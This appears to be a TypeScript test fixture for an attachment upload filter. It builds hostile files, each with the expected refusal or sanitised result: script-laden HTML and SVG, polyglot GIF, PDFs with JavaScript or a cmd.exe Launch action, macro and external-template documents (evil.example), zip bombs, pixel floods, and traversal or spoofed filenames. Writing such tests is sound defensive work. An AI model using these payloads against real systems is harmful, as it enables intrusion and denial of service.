/** Files as people with bad intentions send them, and honest ones beside them; all made here, none brought along. */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { zip } from './zip.ts';

export interface Attachment {
	what: string;
	/** The name it is sent under. */
	name: string;
	bytes: () => Buffer | Promise<Buffer>;
	/** The refusal, or the name and type it is kept under. */
	ends: { refused: string } | { kept: string; mime: string };
	/** What may not be found in the bytes that are kept. */
	without?: readonly string[];
}

export const SCRIPT = '<script>alert(document.cookie)</script>';
export const PLACE = '76/1 54/1';

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const TEXT = 'application/vnd.oasis.opendocument.text';
const types = (main: string, part: string) =>
	`<?xml version="1.0"?><Types><Override PartName="/${part}" ContentType="${main}.main+xml"/></Types>`;
const PARTS = { '[Content_Types].xml': types(WORD, 'word/document.xml'), 'word/document.xml': '<w:document/>' };
const docx = (more: Record<string, string | Buffer> = {}) => zip({ ...PARTS, ...more }, { packed: true });
const BIG = 210 * 1024 * 1024;

/** A PDF of one page whose catalog and further objects are given. */
export function pdf(catalog = '', objects = ''): Buffer {
	return Buffer.from(
		`%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n${objects}trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
		'latin1'
	);
}

function packedPdf(objects: string): Buffer {
	const stream = deflateSync(Buffer.from(objects));
	const head = `%PDF-1.7\n4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${String(stream.length)}>>stream\n`;
	return Buffer.concat([Buffer.from(head, 'latin1'), stream, Buffer.from('\nendstream endobj\nstartxref\n9\n%%EOF\n')]);
}

const image = () => sharp({ create: { width: 40, height: 20, channels: 3, background: '#0a6' } });
const withPlace = () =>
	image().withExif({
		IFD0: { Make: 'Phone' },
		IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 15/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: PLACE }
	});

/** A PNG of some hundred bytes that claims to be so large that no machine holds it. */
function pixelFlood(side: number): Buffer {
	const chunk = (type: string, body: Buffer) => {
		const named = Buffer.concat([Buffer.from(type, 'latin1'), body]);
		const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
		length.writeUInt32BE(body.length);
		sum.writeUInt32BE(crc32(named));
		return Buffer.concat([length, named, sum]);
	};
	const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
	head.writeUInt32BE(side, 0);
	head.writeUInt32BE(side, 4);
	const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
	return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(4096))), chunk('IEND', Buffer.alloc(0))]);
}

const refused = (code: string) => ({ refused: `file.${code}` });
const kept = (name: string, mime: string) => ({ kept: name, mime });
const PDF = 'application/pdf';

/** What can run in a browser or on the reader's machine, alone or under another's face. */
const ACTIVE: readonly Attachment[] = [
	{ what: 'a page', name: 'a.html', bytes: () => Buffer.from(`<!doctype html>${SCRIPT}`), ends: refused('type') },
	{ what: 'a page called a photo', name: 'photo.jpg', bytes: () => Buffer.from(`<html>${SCRIPT}</html>`), ends: refused('type') },
	{ what: 'a page called text', name: 'a.html.txt', bytes: () => Buffer.from(SCRIPT), ends: kept('a.html.txt', 'text/plain') },
	{
		what: 'a drawing with a script',
		name: 'a.svg',
		bytes: () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
		ends: refused('type')
	},
	{
		what: 'a drawing with a head',
		name: 'a.png',
		bytes: () => Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`),
		ends: refused('type')
	},
	{
		what: 'a GIF that is a script',
		name: 'a.gif',
		bytes: () => Buffer.from('GIF89a/*\0\0\0\0*/=1;alert(1)//', 'latin1'),
		ends: refused('type')
	},
	{ what: 'a program', name: 'photo.jpg', bytes: () => Buffer.from('MZ'.padEnd(300, '\0')), ends: refused('type') },
	{
		what: 'a PDF that is a page',
		name: 'a.pdf',
		bytes: () => Buffer.concat([Buffer.from(`%PDF-1.7\n<html>${SCRIPT}`), pdf()]),
		ends: refused('active')
	},
	{
		what: 'a PDF that is an archive',
		name: 'a.pdf',
		bytes: () => Buffer.concat([pdf(), zip({ 'a.hta': SCRIPT }), Buffer.from('%%EOF')]),
		ends: refused('active')
	},
	{
		what: 'a PDF with a script',
		name: 'a.pdf',
		bytes: () => pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>'),
		ends: refused('active')
	},
	{ what: 'a PDF that hides the word', name: 'a.pdf', bytes: () => pdf('/OpenAction<</S/J#61vaScript/J#53(1)>>'), ends: refused('active') },
	{ what: 'a PDF that hides it packed', name: 'a.pdf', bytes: () => packedPdf('5 0 <</S/JavaScript/JS(1)>>'), ends: refused('active') },
	{
		what: 'a PDF that starts a program',
		name: 'a.pdf',
		bytes: () => pdf('', '3 0 obj<</S/Launch/F(cmd.exe)>>endobj\n'),
		ends: refused('active')
	},
	{
		what: 'a PDF that holds a file',
		name: 'ұсыныс.pdf',
		bytes: () => pdf('/Names<</EmbeddedFiles 3 0 R>>'),
		ends: kept('ұсыныс.pdf', PDF)
	},
	{
		what: 'a photo with an HTA behind it',
		name: 'a.jpg',
		bytes: async () => Buffer.concat([await image().jpeg().toBuffer(), Buffer.from(SCRIPT), zip({ 'a.hta': SCRIPT })]),
		ends: kept('a.jpg', 'image/jpeg'),
		without: ['alert', 'PK\x03\x04']
	}
];

/** Office documents: macros, payloads, archives that swell. */
const OFFICE: readonly Attachment[] = [
	{ what: 'an honest letter', name: 'Өтініш.docx', bytes: () => docx({ 'word/media/image1.png': 'x' }), ends: kept('Өтініш.docx', WORD) },
	{
		what: 'an honest sheet in a letter',
		name: 'a.docx',
		bytes: () =>
			docx({ 'word/embeddings/s.xlsx': zip({ '[Content_Types].xml': types(SHEET, 'xl/workbook.xml'), 'xl/workbook.xml': '<x/>' }) }),
		ends: kept('a.docx', WORD)
	},
	{
		what: 'an honest open document',
		name: 'a.odt',
		bytes: () => zip({ mimetype: TEXT, 'content.xml': '<o/>' }),
		ends: kept('a.odt', TEXT)
	},
	{ what: 'a letter with macros', name: 'a.docx', bytes: () => docx({ 'word/vbaProject.bin': 'x' }), ends: refused('active') },
	{
		what: 'a letter of the kind with macros',
		name: 'a.docm',
		bytes: () => zip({ ...PARTS, '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled', 'word/document.xml') }),
		ends: refused('type')
	},
	{
		what: 'a letter with an object',
		name: 'a.docx',
		bytes: () => docx({ 'word/embeddings/oleObject1.bin': 'x' }),
		ends: refused('active')
	},
	{
		what: 'a letter that fetches its template',
		name: 'a.docx',
		bytes: () =>
			docx({
				'word/_rels/settings.xml.rels':
					'<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
			}),
		ends: refused('active')
	},
	{
		what: 'an open document with a macro',
		name: 'a.odt',
		bytes: () => zip({ mimetype: TEXT, 'content.xml': '<o/>', 'Basic/Standard/Module1.xml': '<b/>' }),
		ends: refused('active')
	},
	{
		what: 'an archive in a letter’s clothes',
		name: 'a.docx',
		bytes: () => zip({ '[Content_Types].xml': types(WORD, 'word/document.xml'), 'word/run.exe': 'MZ' }),
		ends: refused('active')
	},
	{
		what: 'a letter with a page in it',
		name: 'a.docx',
		bytes: () => docx({ 'word/media/image1.png': `<html>${SCRIPT}</html>` }),
		ends: refused('active')
	},
	{
		what: 'a letter without a letter',
		name: 'a.docx',
		bytes: () => zip({ '[Content_Types].xml': types(WORD, 'word/document.xml'), 'word/styles.xml': '<s/>' }),
		ends: refused('broken')
	},
	{
		what: 'a letter that leaves its folder',
		name: 'a.docx',
		bytes: () => docx({ 'word/../../../etc/cron.d/x': 'x' }),
		ends: refused('broken')
	},
	{
		what: 'two letters in one',
		name: 'a.docx',
		bytes: () => zip([...Object.entries(PARTS), ['word/document.xml', '<other/>']]),
		ends: refused('broken')
	},
	{
		what: 'a letter with something behind it',
		name: 'a.docx',
		bytes: () => Buffer.concat([docx(), Buffer.from(SCRIPT)]),
		ends: refused('broken')
	},
	{ what: 'a bomb that says so', name: 'a.docx', bytes: () => docx({ 'word/media/b.png': Buffer.alloc(BIG) }), ends: refused('swollen') },
	{
		what: 'a bomb that says it is small',
		name: 'a.docx',
		bytes: () => zip({ ...PARTS, 'word/media/b.png': Buffer.alloc(BIG) }, { packed: true, claim: 10 }),
		ends: refused('swollen')
	},
	{
		what: 'a letter of very many parts',
		name: 'a.docx',
		bytes: () => docx(Object.fromEntries(Array.from({ length: 5001 }, (_, i) => [`word/media/${String(i)}.png`, '']))),
		ends: refused('swollen')
	},
	{
		what: 'a letter in a letter in a letter',
		name: 'a.docx',
		bytes: () => docx({ 'word/embeddings/b.docx': docx({ 'word/embeddings/c.docx': docx() }) }),
		ends: refused('swollen')
	}
];

/** Pictures: places, floods, halves. */
const PICTURES: readonly Attachment[] = [
	{
		what: 'a JPEG with its place',
		name: 'IMG_1.JPG',
		bytes: () => withPlace().jpeg().toBuffer(),
		ends: kept('IMG_1.jpg', 'image/jpeg'),
		without: ['Exif', 'Phone']
	},
	{
		what: 'a PNG with its place',
		name: 'a.png',
		bytes: () => withPlace().png().toBuffer(),
		ends: kept('a.png', 'image/png'),
		without: ['eXIf', 'Phone']
	},
	{
		what: 'a WebP with its place',
		name: 'a.webp',
		bytes: () => withPlace().webp().toBuffer(),
		ends: kept('a.webp', 'image/webp'),
		without: ['EXIF', 'Exif', 'Phone']
	},
	{ what: 'a HEIC photo', name: 'a.HEIC', bytes: () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), ends: refused('heic') },
	{ what: 'a flood of pixels', name: 'a.png', bytes: () => pixelFlood(50_000), ends: refused('pixels') },
	{ what: 'half a picture', name: 'a.png', bytes: async () => (await image().png().toBuffer()).subarray(0, 60), ends: refused('broken') },
	{ what: 'nothing', name: 'a.pdf', bytes: () => Buffer.alloc(0), ends: refused('empty') }
];

const note = (what: string, name: string, keptAs: string): Attachment => ({
	what,
	name,
	bytes: () => Buffer.from('Жарық жоқ.'),
	ends: kept(keptAs, 'text/plain')
});

/** Names that are paths, devices, or not what they look like. */
const NAMES: readonly Attachment[] = [
	note('a name that climbs', '../../etc/cron.d/жұмыс.txt', 'жұмыс.txt'),
	note('an absolute name', 'C:\\Windows\\system32\\drivers\\etc\\hosts.txt', 'hosts.txt'),
	note('a name read from the right', 'фото\u202Egpj.txt', 'фотоgpj.txt'),
	note('a name with a NUL', 'a\u0000.exe.txt', 'a.exe.txt'),
	note('the name of a device', 'con.txt', '_con.txt'),
	note('a name with markup', '<img src=x onerror=alert(1)>.txt', '_img src=x onerror=alert(1)_.txt'),
	note('a very long name', `${'ұ'.repeat(150)}.txt`, `${'ұ'.repeat(100)}.txt`),
	note('a Kazakh name', 'Әкімге өтініш – құжат №5 (ғ).txt', 'Әкімге өтініш – құжат №5 (ғ).txt')
];

export const ATTACHMENTS: readonly Attachment[] = [...ACTIVE, ...OFFICE, ...PICTURES, ...NAMES];
